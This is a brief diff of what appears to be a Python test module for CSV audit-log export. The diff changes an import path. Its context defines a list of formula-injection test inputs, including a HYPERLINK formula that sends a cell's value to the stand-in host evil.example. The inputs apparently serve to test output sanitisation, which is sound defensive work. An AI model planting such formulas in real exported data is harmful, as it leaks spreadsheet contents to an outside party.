@@ -10,8 +10,8 @@ from urllib.parse import quote
 
 import pytest
 
-from app.api.audit import FORMULA_START, csv_cell
 from app.store import AUDIT_COLUMNS
+from app.web.routes.audit import FORMULA_START, csv_cell
 from tests.conftest import make_settings, running_client
 
 EVIL = ['=HYPERLINK("https:\\evil.example?"&A1,"click")', "@SUM(1+1)", "+1+2", "-2+3"]
